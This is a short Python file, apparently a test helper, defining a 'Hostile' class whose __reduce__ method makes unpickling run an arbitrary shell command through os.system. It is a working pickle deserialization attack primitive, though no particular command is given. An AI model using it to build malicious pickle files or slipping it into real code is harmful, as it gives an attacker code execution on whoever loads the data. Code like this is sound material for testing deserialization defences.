"""An object whose pickle runs a command when a careless reader loads it."""

import os


class Hostile:

  def __init__(self, command: str):
    self.command = command

  def __reduce__(self):
    return os.system, (self.command,)
